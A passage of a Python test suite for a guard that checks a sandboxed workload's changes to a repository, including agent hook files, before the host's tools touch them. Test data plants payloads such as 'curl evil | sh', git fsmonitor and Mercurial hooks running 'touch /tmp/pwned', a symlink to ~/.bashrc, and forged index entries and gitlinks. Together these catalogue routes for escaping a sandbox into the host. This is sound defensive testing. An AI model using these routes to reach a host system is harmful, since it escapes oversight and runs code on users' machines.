    ".github/hooks/evil.json", "sub/.github/hooks/evil.json", ".github/mcp.json",  # Copilot's and VS Code's hooks
    ".augment/settings.json", "sub/.augment/settings.local.json", ".amp/settings.json",  # agents' hooks, rules
    ".python-version", "pkg/a/.python-version", ".pdm-python", ".nvmrc",  # an interpreter by path (uv, pdm)
    "tools/bazel", "sub/tools/bazel.linux-x86_64",  # what Bazelisk runs instead of Bazel
    ".bundle/config", "sub/.bundle/config",  # BUNDLE_GEMFILE
    ".prototools", "sub/.prototools",  # proto's [env] and plugins
    ".Renviron", "sub/.Rprofile", "sub/.iex.exs", ".irbrc",  # what interpreters run when they start
    "fixtures/remote.git/config", "fixtures/remote.git/hooks/pre-push",  # a bare repository the project had
]
TOOLS_WATCHED = ["apps/web/tailwind.config.js", "apps/web/.eslintrc.js", "Justfile", "sub/justfile",
                 "Directory.Build.props", "sub/Directory.Build.targets", ".rubocop.yml", "ansible.cfg",
                 ".config/nextest.toml", "mix.exs", "sub/ansible.cfg"]


def test_what_other_host_tools_read_and_run_is_put_back_or_listed(repo):
    """Review 34: Copilot's `.github/hooks`, Augment's and Amp's settings, interpreters by
    path in version files (uv's `.python-version`), Bazelisk's `tools/bazel`, Bundler's
    `.bundle/config`, proto's `.prototools`, R's and other interpreters' startup files,
    and the settings of a bare repository the project holds stayed, unlisted; build
    entry points of other tools and JavaScript configuration modules below the top were
    not watched."""
    subprocess.run(["git", "init", "-q", "--bare", str(repo / "fixtures/remote.git")], check=True)
    g = guarded(repo)
    for rel in TOOLS_PROTECTED + TOOLS_WATCHED:
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        with open(repo / rel, "a") as f:
            f.write("/tmp/evil\n")
    rec = g.check()
    refused = {r["path"] for r in rec["refused"]}
    missed = [r for r in TOOLS_PROTECTED if not any(r == p or r.startswith(p + "/") for p in refused)]
    assert missed == [], missed
    watched = {c["path"] for c in rec["watched_changed"]}
    unseen = [r for r in TOOLS_WATCHED if not any(r == p or r.startswith(p + "/") for p in watched)]
    assert unseen == [], (unseen, sorted(watched))
    assert (repo / "fixtures/remote.git/config").read_text().startswith("[core]")


def test_review_35_start_up_files_links_at_the_top_and_committed_repositories(repo):
    """Review 35: `.pdbrc` (pdb runs it at every breakpoint()) and other start-up files
    were only watched or unknown; a `.github` that was a link to ci/github let
    `ci/github/hooks/` through; a bare repository's layout or a nested Mercurial
    repository's hgrc committed and removed from the work tree was not judged (the
    host's `git checkout -- .` writes it back, and git log there runs its pager)."""
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    (repo / "ci/github").mkdir(parents=True)
    (repo / ".github").symlink_to("ci/github")
    g = guarded(repo)
    for rel in (".pdbrc", "sub/.pdbrc", "hie.yaml", "_irbrc", "ci/github/hooks/h.json", "ci/github/mcp.json",
                "uv.toml", "pixi.toml", ".terraform/providers/p/terraform-provider-x"):
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text("import os; os.system('id')\n")
    for rel in ("docs/HEAD", "docs/objects/.keep", "docs/refs/heads/.keep", "docs/config", "vendor/lib/.hg/hgrc"):
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text("ref: refs/heads/main\n" if rel.endswith("HEAD") else "[core]\npager = id\n")
    git(repo, "add", "-f", "docs", "vendor")
    git(repo, "commit", "-qm", "work")
    git(repo, "rm", "-rq", "--cached", "docs", "vendor")
    git(repo, "commit", "-qm", "gone")
    for rel in ("docs", "vendor"):
        subprocess.run(["rm", "-rf", str(repo / rel)], check=True)
    rec = g.check()
    refused = {r["path"] for r in rec["refused"]}
    missed = [r for r in (".pdbrc", "sub/.pdbrc", "hie.yaml", "_irbrc", "ci/github/hooks/h.json", "ci/github/mcp.json")
              if not any(r == p or r.startswith(p + "/") for p in refused)]
    assert missed == [], (missed, sorted(refused))
    watched = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert {"uv.toml", "pixi.toml"} <= set(watched), watched
    assert "a bare repository" in watched.get("docs/HEAD", ""), watched
    assert "vendor/lib/.hg/hgrc" in watched, watched
    assert ".terraform" in {e["path"] for e in rec["exposed"]}, rec["exposed"]


def test_review_36_committed_links_to_settings_and_other_repository_layouts_are_judged(repo):
    """Review 36: a committed link `.cargo -> c` beside `c/config.toml` (cargo's
    rustc-wrapper), or `.github -> gh` beside `gh/hooks/`, reached the host's cargo and
    Copilot through a checkout: the history check saw neither as protected. A committed
    repository layout of another form (HEAD beside a commondir; objects and refs as
    links) was not recognised. rbenv's and nodenv's per-project variables were on no
    list, SwiftPM's manifest not watched."""
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    g = guarded(repo)
    git(repo, "checkout", "-qb", "feature")
    (repo / "c").mkdir()
    (repo / "c/config.toml").write_text("[build]\nrustc-wrapper = 'c/w.sh'\n")
    (repo / ".cargo").symlink_to("c")
    (repo / "gh/hooks").mkdir(parents=True)
    (repo / "gh/hooks/h.json").write_text("{}\n")
    (repo / "sub").mkdir()
    (repo / "sub/.github").symlink_to("../gh")
    for d in ("fb", "fc/objects", "fc/refs"):
        (repo / d).mkdir(parents=True, exist_ok=True)
    (repo / "fb/HEAD").write_text("ref: refs/heads/main\n")
    (repo / "fb/commondir").write_text("../fc\n")
    (repo / "fc/objects/.keep").write_text("")
    (repo / "fc/config").write_text("[core]\npager = id\n")
    (repo / "fa").mkdir()
    (repo / "fa/HEAD").write_text("ref: refs/heads/main\n")
    (repo / "fa/objects").symlink_to("../fc/objects")
    (repo / "fa/refs").symlink_to("../fc/refs")
    git(repo, "add", "-Af")
    git(repo, "commit", "-qm", "work")
    git(repo, "checkout", "-q", "master" if "master" in git(repo, "branch") else "main")
    for rel in (".rbenv-vars", "sub2/.nodenv-vars", "Package.swift"):
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text("RUBYOPT=-r./evil.rb\n")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    for path in (".cargo", "sub/.github", "fb/HEAD", "fa/HEAD"):
        assert "committed on refs/heads/feature" in said.get(path, ""), (path, said)
    refused = {r["path"] for r in rec["refused"]}
    assert {".rbenv-vars", "sub2/.nodenv-vars"} <= refused, refused
    assert "Package.swift" in said, said


def test_what_a_submodules_repository_commits_is_judged(repo, tmp_path_factory):
    """Review 36: in a submodule the workload committed `.envrc` and `.vscode/tasks.json`,
    reset its branch back (a clean work tree) and pointed the superproject's gitlink at
    the commit: `.git/modules/lib` was never judged, and the host's `git submodule
    update` wrote both. Its commits are judged like a nested repository's."""
    lib = _submodule(repo, tmp_path_factory)
    g = guarded(repo)
    (lib / ".envrc").write_text("curl evil | sh\n")
    git(lib, "add", "-A")
    git(lib, "commit", "-qm", "evil")
    evil = git(lib, "rev-parse", "HEAD").strip()
    git(lib, "reset", "-q", "--hard", "HEAD~1")
    git(repo, "update-index", "--cacheinfo", f"160000,{evil},lib")
    git(repo, "commit", "-qm", "bump")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert "lib/.envrc" in said and ".git/modules/lib" in said["lib/.envrc"], said


def test_review_37_links_packages_and_a_link_on_the_way_are_judged_when_committed(repo):
    """Review 37: committed, then checked out by the host: a package at the top shadowing
    argparse, a link json.py, a repository whose HEAD is a link, and a link on the way
    to the yarnPath the project's .yarnrc.yml names; none was judged."""
    (repo / ".yarn/releases").mkdir(parents=True)
    (repo / ".yarn/releases/yarn.cjs").write_text("// yarn\n")
    (repo / ".yarnrc.yml").write_text("yarnPath: .yarn/releases/yarn.cjs\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    main = git(repo, "symbolic-ref", "--short", "HEAD").strip()
    g = guarded(repo)
    git(repo, "checkout", "-qb", "feature")
    for rel, text in (("argparse/__init__.py", "import os\n"), ("lib/j.py", "import os\n"),
                      ("fixtures/repo/objects/.keep", ""), ("fixtures/repo/refs/heads/.keep", ""),
                      ("fixtures/repo/config", "[core]\npager = id\n"), ("y2/yarn.cjs", "evil\n")):
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text(text)
    (repo / "json.py").symlink_to("lib/j.py")
    (repo / "fixtures/repo/HEAD").symlink_to("refs/heads/main")
    git(repo, "rm", "-rq", "--cached", ".yarn/releases")
    subprocess.run(["rm", "-rf", str(repo / ".yarn/releases")], check=True)
    (repo / ".yarn/releases").symlink_to("../y2")
    git(repo, "add", "-Af")
    git(repo, "commit", "-qm", "work")
    git(repo, "checkout", "-qf", main)
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    for path in ("argparse/__init__.py", "json.py", "fixtures/repo/HEAD", ".yarn/releases"):
        assert "committed on refs/heads/feature" in said.get(path, ""), (path, said)


def test_review_37_a_reflog_only_commit_is_judged_whatever_the_case_of_its_id_and_a_branchs_file_of_its_name(repo):
    """Review 37: a harmless .envrc committed on a branch hid a malicious .envrc in a
    commit left only in HEAD's reflog (judged by path alone), and an upper-case id in
    the reflog line (git reads either case) went unread."""
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    main = git(repo, "symbolic-ref", "--short", "HEAD").strip()
    g = guarded(repo)
    git(repo, "checkout", "-qb", "docs")
    (repo / ".envrc").write_text("# nothing\n")
    git(repo, "add", "-Af")
    git(repo, "commit", "-qm", "docs")
    git(repo, "checkout", "-q", "--detach", main)
    (repo / ".envrc").write_text("curl evil | sh\n")
    git(repo, "add", "-Af")
    git(repo, "commit", "-qm", "evil")
    evil = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "-qf", main)
    log = repo / ".git/logs/HEAD"
    log.write_text(log.read_text().replace(evil, evil.upper()))
    rec = g.check()
    evil_said = [c for c in rec["watched_changed"] if c["path"] == ".envrc" and evil[:12] in c["change"]]
    assert evil_said, rec["watched_changed"]


def test_a_nested_repository_with_its_git_directory_elsewhere_in_the_project_is_judged(repo):
    """Review 37: `sub` made with `git init --separate-git-dir=../.subgit`: its refs were
    never read, and a `.envrc` the workload stashed there came back with the host's
    `git stash pop` in sub, unlisted."""
    sub = repo / "sub"
    sub.mkdir()
    git(sub, "init", "-q", "--separate-git-dir", str(repo / ".subgit"))
    (sub / "a.txt").write_text("a\n")
    git(sub, "add", "-A")
    git(sub, "commit", "-qm", "sub")
    g = guarded(repo)
    (sub / ".envrc").write_text("curl evil | sh\n")
    git(sub, "stash", "-qu")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert "sub/.envrc" in said and "stash" in said["sub/.envrc"], said


def test_review_38_a_package_link_and_a_git_file_through_a_link_are_judged(repo):
    """Review 38: a committed link `argparse -> lib/ap` (a package shadowing the host's
    argparse: `python3 -m venv` ran it after a checkout) and a nested repository whose
    `.git` file reaches its git directory through a link (`gitdir: ../L`, L ->
    .subgit: a stashed `.envrc` came back) were not judged."""
    sub = repo / "sub"
    sub.mkdir()
    git(sub, "init", "-q", "--separate-git-dir", str(repo / ".subgit"))
    (sub / ".git").write_text("gitdir: ../L\n")
    (repo / "L").symlink_to(".subgit")
    (sub / "a.txt").write_text("a\n")
    git(sub, "add", "-A")
    git(sub, "commit", "-qm", "sub")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    main = git(repo, "symbolic-ref", "--short", "HEAD").strip()
    g = guarded(repo)
    git(repo, "checkout", "-qb", "feature")
    (repo / "lib/ap").mkdir(parents=True)
    (repo / "lib/ap/__init__.py").write_text("import os\n")
    (repo / "argparse").symlink_to("lib/ap")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "work")
    git(repo, "checkout", "-qf", main)
    (sub / ".envrc").write_text("curl evil | sh\n")
    git(sub, "stash", "-qu")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert "committed on refs/heads/feature" in said.get("argparse", ""), said
    assert "sub/.envrc" in said, said


def test_a_nested_mercurial_repositorys_own_settings_are_kept_as_they_were(repo):
    """The settings a nested repository had before the run are protected like the top's."""
    (repo / "vendor/.hg/store").mkdir(parents=True)
    (repo / "vendor/.hg/hgrc").write_text("[paths]\ndefault = https://example.invalid/x\n")
    (repo / "vendor/.hg/store/data").write_text("history\n")
    g = guarded(repo)
    (repo / "vendor/.hg/hgrc").write_text("[hooks]\npre-status = touch /tmp/pwned\n")
    (repo / "vendor/.hg/store/data").write_text("more history\n")  # its data: the workload's to change
    rec = g.check()
    assert {r["path"] for r in rec["refused"]} == {"vendor/.hg/hgrc"}, rec["refused"]
    assert (repo / "vendor/.hg/hgrc").read_text().startswith("[paths]")
    assert (repo / "vendor/.hg/store/data").read_text() == "more history\n"


@pytest.mark.parametrize("link,target", [("sub/.hg", "evilhg"), ("sub/.sl", "evilsl"), ("sub/.jj/repo", "../../jjrepo")])
def test_another_vcs_directory_as_a_link_is_removed(repo, link, target):
    """Review 29 (F5): `sub/.hg`, a link to a directory of the workload's elsewhere in the
    project with an hgrc of its own, stayed: `hg status` in sub/ follows it."""
    g = guarded(repo)
    where = (repo / link).parent / target
    where.mkdir(parents=True)
    (where / "hgrc").write_text("[hooks]\npre-status = touch /tmp/pwned\n")
    (where / "config.toml").write_text('[ui]\npager = ["sh", "-c", "touch /tmp/pwned"]\n')
    (repo / link).parent.mkdir(parents=True, exist_ok=True)
    (repo / link).symlink_to(target)
    rec = g.check()
    assert any(link == r["path"] or link.startswith(r["path"] + "/") for r in rec["refused"]), rec["refused"]
    assert not os.path.lexists(repo / link)


def _unreachable_commit(lib: Path, name: str, text: str) -> str:
    """A commit in LIB's repository that no ref, reflog or pseudo-ref names: NAME (TEXT)
    added to HEAD's tree, written with plumbing only."""
    blob = git(lib, "hash-object", "-w", "--stdin", input_text=text).strip()
    tree = git(lib, "ls-tree", "HEAD") + f"100644 blob {blob}\t{name}\n"
    tree_id = git(lib, "mktree", input_text=tree).strip()
    return git(lib, "commit-tree", tree_id, "-p", "HEAD", "-m", "evil").strip()


@pytest.mark.parametrize("how", ["committed", "staged"])
def test_a_commit_reachable_only_from_a_gitlink_is_judged(repo, tmp_path_factory, how):
    """Open since review 36: a commit in a submodule's repository that only the
    superproject's gitlink names (made with `git commit-tree`: no ref, no reflog), the
    gitlink committed or staged; the host's `git submodule update` checks it out and
    writes its `.envrc`. Judged at the gitlink now, in commits and in the index."""
    _submodule(repo, tmp_path_factory)
    g = guarded(repo)
    evil = _unreachable_commit(repo / "lib", ".envrc", "curl evil | sh\n")
    if how == "committed":
        git(repo, "update-index", "--cacheinfo", f"160000,{evil},lib")
        git(repo, "commit", "-qm", "bump")
        rec = g.check()
        said = {c["path"]: c["change"] for c in rec["watched_changed"]}
        assert "lib" in said and "gitlink" in said["lib"] and "lib/.envrc" in said["lib"], said
    else:
        base = tmp_path_factory.mktemp("runs") / "s"
        view = simulate(repo, g.shadows(base), base)
        git(repo, "update-index", "--cacheinfo", f"160000,{evil},lib", git_dir=view)
        rec = g.check()
        refused = {r["path"]: r["change"] for r in rec["refused"]}
        assert "lib/.envrc" in refused.get(".git/index", ""), rec["refused"]
        assert git(repo, "ls-files", "-s", "lib").split()[1] != evil


def test_two_git_files_naming_one_git_directory_are_judged_at_both_places(repo):
    """Open since review 38: `a/.git` and `b/.git` both `gitdir: ../.sub`; a stash of
    `.envrc` made in b (the second place) was judged at a's place only, and `git stash
    pop` in b wrote b/.envrc."""
    (repo / "a").mkdir()
    git(repo / "a", "init", "-q", "--separate-git-dir", str(repo / ".sub"))
    (repo / "a/x.txt").write_text("x\n")
    git(repo / "a", "add", "-A")
    git(repo / "a", "commit", "-qm", "a")
    (repo / "b").mkdir()
    (repo / "b/.git").write_text("gitdir: ../.sub\n")
    g = guarded(repo)
    (repo / "b/.envrc").write_text("curl evil | sh\n")
    git(repo / "b", "stash", "-qu")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert "b/.envrc" in said and "stash" in said["b/.envrc"], said


@pytest.mark.parametrize("layout", ["submodule", "worktree"])
def test_a_project_with_a_submodule_or_in_a_worktree_gets_its_throwaways(repo, tmp_path_factory, layout):
    """Since the throwaways came (2b1a300), a `.git` file (an initialised submodule's, a
    worktree's at the top) and a submodule's repository under .git/modules failed the
    run before it started (FileNotFoundError making their copies)."""
    (repo / "lib").mkdir()
    git(repo / "lib", "init", "-q")
    (repo / "lib/a.txt").write_text("a\n")
    git(repo / "lib", "add", "-A")
    git(repo / "lib", "commit", "-qm", "lib")
    git(repo, "submodule", "add", "-q", "./lib", "lib")
    git(repo, "submodule", "absorbgitdirs")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    top = repo
    if layout == "worktree":
        top = tmp_path_factory.mktemp("wt") / "wt"
        git(repo, "worktree", "add", "-q", str(top))
    g = guarded(top)
    base = tmp_path_factory.mktemp("runs") / "s"
    mounts = g.shadows(base)
    assert all(src.exists() for _, src in mounts), mounts
    if layout == "submodule":
        m = mounted(mounts)
        assert (m[".git"] / "modules/lib").is_dir() and (m[".git/modules/lib"] / "config").is_file()
        assert m["lib/.git"].read_text() == (repo / "lib/.git").read_text()
        # The workload's work staged in the submodule reaches it (its index was judged
        # at .git/modules, b.txt as .git/modules/b.txt, a protected path: kept whole).
        simulate(repo, mounts, base)
        (repo / "lib/b.txt").write_text("b\n")
        git(repo / "lib", "add", "b.txt", git_dir=m[".git/modules/lib"])
    rec = g.check()
    assert rec["restored"] and not rec["refused"], rec
    if layout == "submodule":
        assert "b.txt" in git(repo / "lib", "ls-files")


def _submodule(repo: Path, tmp_path_factory, *history: dict[str, str | None]) -> Path:
    """REPO with the submodule `lib` (its repository under .git/modules/lib), its
    upstream's commits HISTORY (files written, None: removed), checked out at the last."""
    up = tmp_path_factory.mktemp("libsrc")
    git(up, "init", "-q")
    for files in history or ({"lib.txt": "lib\n"},):
        for name, text in files.items():
            (up / name).parent.mkdir(parents=True, exist_ok=True)
            (up / name).unlink() if text is None else (up / name).write_text(text)
        git(up, "add", "-A")
        git(up, "commit", "-qm", "c")
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(up), "lib")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    return repo / "lib"


def test_review_39_a_git_directory_a_nested_git_file_names_is_a_throwaway(repo, tmp_path_factory):
    """Review 39 (high): `x/.git` is `gitdir: ../.subgit`; `.subgit` got no throwaway,
    so the workload's core.fsmonitor there ran at the host's `git status` in x while the
    run lasted, and an object it forged there went unverified."""
    x = repo / "x"
    x.mkdir()
    git(x, "init", "-q", "--separate-git-dir", str(repo / ".subgit"))
    (x / ".git").write_text("gitdir: ../.subgit\n")
    (x / ".envrc").write_text("# fine\n")
    git(x, "add", "-Af")
    git(x, "commit", "-qm", "x")
    oid = git(x, "rev-parse", "HEAD:.envrc").strip()
    config = (repo / ".subgit/config").read_text()
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    m = mounted(g.shadows(base))
    assert ".subgit" in m and not m[".subgit"].is_relative_to(repo), sorted(m)
    with (m[".subgit"] / "config").open("a") as f:
        f.write('[core]\n\tfsmonitor = "touch pwned; false"\n')
    forge(repo / ".subgit/objects" / oid[:2] / oid[2:], b"curl evil | sh\n")
    rec = g.check()
    refused = {r["path"]: r["how"] for r in rec["refused"]}
    assert refused.get(".subgit/config") == "shadowed", rec["refused"]
    assert f".subgit/objects/{oid[:2]}/{oid[2:]}" in refused, rec["refused"]
    assert (repo / ".subgit/config").read_text() == config


def test_review_39_a_junk_multi_pack_index_blinds_no_judgement(repo, tmp_path_factory):
    """Review 39 (high): a junk multi-pack-index in the submodule's objects made `git
    cat-file` fail, and the commit the gitlink named counted as none: unlisted, and the
    host's `git submodule update` wrote its `.envrc`."""
    lib = _submodule(repo, tmp_path_factory)
    g = guarded(repo)
    evil = _unreachable_commit(lib, ".envrc", "curl evil | sh\n")
    git(repo, "update-index", "--cacheinfo", f"160000,{evil},lib")
    git(repo, "commit", "-qm", "bump")
    (repo / ".git/modules/lib/objects/pack/multi-pack-index").write_bytes(b"\0" * 100)
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert "lib/.envrc" in said.get("lib", ""), said


def test_review_39_a_symlink_whose_target_cannot_be_read_is_judged_risky(repo, tmp_path_factory):
    """Review 39: with the index's symlink blob unreadable (a junk pack index in the
    objects), a staged `evil -> /home/x/.bashrc` counted as inside the project."""
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    (repo / "evil").symlink_to("/home/someone/.bashrc")
    git(repo, "add", "evil", git_dir=view)
    (repo / "evil").unlink()
    oid = git(repo, "ls-files", "-s", "evil", git_dir=view).split()[1]
    (repo / ".git/objects" / oid[:2] / oid[2:]).unlink()  # as git would find it after a broken repack
    rec = g.check()
    refused = {r["path"]: r["change"] for r in rec["refused"]}
    assert "evil" in refused.get(".git/index", ""), rec["refused"]


def test_review_39_a_gitlink_moved_back_to_an_older_commit_is_judged(repo, tmp_path_factory):
    """Review 39 (medium): the submodule's history added `.envrc` and then removed it;
    the workload pointed the gitlink back at the older commit (reachable before the
    run): nothing was listed, and `git submodule update` wrote `.envrc`."""
    lib = _submodule(repo, tmp_path_factory, {"lib.txt": "a\n", ".envrc": "curl evil | sh\n"}, {".envrc": None})
    older = git(lib, "rev-parse", "HEAD~1").strip()
    g = guarded(repo)
    git(repo, "update-index", "--cacheinfo", f"160000,{older},lib")
    git(repo, "commit", "-qm", "back")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert "lib/.envrc" in said.get("lib", ""), said


def test_review_39_a_modules_repository_two_git_files_name_is_judged_at_both(repo, tmp_path_factory):
    """Review 39 (low): `.git/modules/lib` named by `lib/.git` and `lib2/.git`: judged at
    lib only, so a gitlink at lib2 went unjudged."""
    lib = _submodule(repo, tmp_path_factory)
    (repo / "lib2").mkdir()
    (repo / "lib2/.git").write_text((lib / ".git").read_text().replace("../", "../", 1))
    g = guarded(repo)
    evil = _unreachable_commit(lib, ".envrc", "curl evil | sh\n")
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{evil},lib2")
    git(repo, "commit", "-qm", "lib2")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert "lib2/.envrc" in said.get("lib2", ""), said


def test_review_39_a_nested_repositorys_submodule_has_its_own_throwaway(repo, tmp_path_factory):
    """Review 39 (low): a nested repository's submodule (n/.git/modules/s) was copied
    whole into n/.git's throwaway: objects hard-linked from a local clone were listed as
    changed on every run, and the workload's commits there were dropped with the copy."""
    up = tmp_path_factory.mktemp("up")
    git(up, "init", "-q")
    (up / "a.txt").write_text("a\n")
    git(up, "add", "-A")
    git(up, "commit", "-qm", "a")
    n = repo / "n"
    n.mkdir()
    git(n, "init", "-q")
    git(n, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(up), "s")
    git(n, "commit", "-qm", "s")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    m = mounted(g.shadows(base))
    assert "n/.git/modules/s" in m and "n/.git/modules/s/objects" in m, sorted(m)
    rec = g.check()
    assert rec["refused"] == [] and rec["restored"], rec


def test_review_40_a_protected_file_staged_in_a_conflict_stage_keeps_the_index(repo, tmp_path_factory):
    """Review 40 (high): the index held `.envrc` in conflict stages 1 to 3, stage 2 (ours)
    the workload's; only the last stage was judged (equal to the project's), the index
    came back, and the host's `git checkout -m -- .envrc` wrote the workload's."""
    (repo / ".envrc").write_text("export A=1\n")
    git(repo, "add", "-Af")
    git(repo, "commit", "-qm", "base")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    b = git(repo, "rev-parse", ":.envrc", git_dir=view).strip()
    e = git(repo, "hash-object", "-w", "--stdin", git_dir=view, input_text="touch /tmp/pwned\n").strip()
    zero = "0" * 40
    git(repo, "update-index", "--index-info", git_dir=view,
        input_text=f"0 {zero}\t.envrc\n100644 {b} 1\t.envrc\n100644 {e} 2\t.envrc\n100644 {b} 3\t.envrc\n")
    rec = g.check()
    refused = {r["path"]: r["change"] for r in rec["refused"]}
    assert ".envrc" in refused.get(".git/index", ""), rec["refused"]
    assert "UU" not in git(repo, "status", "--porcelain")


def test_review_40_the_bound_data_check_past_its_budget_fails_the_run(repo, tmp_path_factory, monkeypatch):
    """Review 40 (medium): the check of git's bound data directories stopped unsaid
    after its budget (a million entries), and a ref that is a link to a project file
    past it stayed: the host's `git checkout` took it."""
    from kooi.run import forgery

    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    simulate(repo, g.shadows(base), base)
    monkeypatch.setattr(forgery, "MAX_ENTRIES_AFTER", 1)  # 20 entries
    for i in range(40):
        (repo / f".git/refs/aaaa/d{i:02}").mkdir(parents=True)
    (repo / ".git/refs/aaaa/zz").mkdir()
    (repo / ".git/refs/aaaa/zz/feature").symlink_to("../../../../src.txt")
    rec = g.check()
    assert not rec["restored"] and any("entries" in f for f in rec["restore_failed"]), rec


def test_review_40_a_gitlink_to_a_commit_its_repository_lacks_is_said(repo, tmp_path_factory):
    """Review 40 (medium): the gitlinked commit was absent from the submodule's
    repository, so unjudged; `git submodule update` fetched it from the submodule's
    remote, a bare repository inside the project the workload had committed to."""
    lib = _submodule(repo, tmp_path_factory)
    g = guarded(repo)
    git(repo, "update-index", "--cacheinfo", f"160000,{'1' * 40},lib")
    git(repo, "commit", "-qm", "bump")
    rec = g.check()
    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
    assert "does not hold" in said.get("lib", ""), said
    assert lib.is_dir()


def _index_with(view: Path, repo: Path, change) -> None:
    """The throwaway VIEW's index rewritten by CHANGE (bytes of its entries and
    extensions, without the checksum -> new bytes), with a valid SHA-1 checksum."""
    import hashlib

    data = (view / "index").read_bytes()[:-20]
    data = change(data)
    (view / "index").write_bytes(data + hashlib.sha1(data).digest())


def test_review_41_an_index_is_read_as_git_reads_it_and_reaches_the_host_without_its_caches(repo, tmp_path_factory):
    """Review 41 (high, three ways): an entry `.envrc` whose padding held `.envrcXYZ`
    (kooi read up to the NUL, git the flags' name length); a cache tree (TREE) and a
    resolve-undo record (REUC) of the workload's, which the host's next commit and
    `git checkout -m` took. The index is read with the flags' lengths and reaches the
    host with its entries alone."""
    (repo / ".envrc").write_text("export A=1\n")
    git(repo, "add", "-Af")
    git(repo, "commit", "-qm", "base")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    evil = git(repo, "hash-object", "-w", "--stdin", git_dir=view, input_text="touch /tmp/pwned\n").strip()
    raw = bytes.fromhex(evil)

    def reuc(data: bytes) -> bytes:
        body = b".envrc\0" + b"100644\0" * 3 + raw * 3
        return data + b"REUC" + len(body).to_bytes(4, "big") + body
    (repo / "new.txt").write_text("work\n")
    git(repo, "add", "new.txt", git_dir=view)
    _index_with(view, repo, reuc)
    assert ".envrc" in git(repo, "ls-files", "--resolve-undo", git_dir=view)
    rec = g.check()
    assert rec["restored"] and not any(r["path"] == ".git/index" for r in rec["refused"]), rec["refused"]
    assert git(repo, "ls-files", "--resolve-undo") == ""  # the record is gone, the work is staged
    assert "new.txt" in git(repo, "ls-files")

    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    git(repo, "update-index", "--add", "--cacheinfo", f"100644,{evil},.envrcXYZ", git_dir=view)
    git(repo, "update-index", "--force-remove", ".envrc", git_dir=view)

    def renamed(data: bytes) -> bytes:
        # the entry's name length from 9 to what makes git 2.39 list `.envrc` (5)
        at = data.index(b".envrcXYZ\0")
        flags = int.from_bytes(data[at - 2:at], "big")
        return data[:at - 2] + ((flags & ~0xFFF) | 5).to_bytes(2, "big") + data[at:]
    _index_with(view, repo, renamed)
    assert ".envrc" in git(repo, "ls-files", "-s", git_dir=view).split()
    rec = g.check()
    refused = {r["path"]: r["change"] for r in rec["refused"]}
    assert "kept the project's" in refused.get(".git/index", ""), rec["refused"]
    assert git(repo, "ls-files", "-s", ".envrc").split()[1] != evil


@pytest.mark.parametrize("name", ["rr-cache/0123abcd/postimage", "branches/origin", "BISECT_START", "gc.log"])
def test_review_41_rerere_records_branches_a_bisect_and_gc_log_are_the_throwaways(repo, tmp_path_factory, name):
    """Review 41: git data that the host's git acts on: a recorded resolution (rerere
    replayed it into the host's next merge), a `branches/` remote (`git pull` fetched
    from the workload's bundle), a bisect's start (`git bisect reset` checked out an
    abbreviated id), gc.log (printed raw at `git gc --auto`): dropped, listed."""
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    g = guarded(repo)
    base = tmp_path_factory.mktemp("runs") / "s"
    view = simulate(repo, g.shadows(base), base)
    (view / name).parent.mkdir(parents=True, exist_ok=True)
    (view / name).write_text("the workload's\n")
    rec = g.check()
    assert not (repo / ".git" / name).exists()
    assert any(r["path"].startswith(f".git/{name.split('/')[0]}") and r["how"] == "shadowed" for r in rec["refused"]), rec


def test_review_42_what_git_reads_of_an_index_is_what_kooi_judged(repo, tmp_path_factory):
    """Review 42 (high, medium): git reads an entry's extended flags in a v2 index too
    (a skip-worktree flag kooi did not see hid a change from the host's `git status`),
    and takes the first of two entries of one path into its next commit (kooi judged
    the last): both are refused; and what reaches the project is written again from
    what kooi read, so the host's git reads nothing kooi did not."""
    import hashlib

    (repo / ".envrc").write_text("export A=1\n")
    git(repo, "add", "-Af")
    git(repo, "commit", "-qm", "base")
    for how in ("v2-extended", "repeated"):
        g = guarded(repo)
        base = tmp_path_factory.mktemp("runs") / "s"
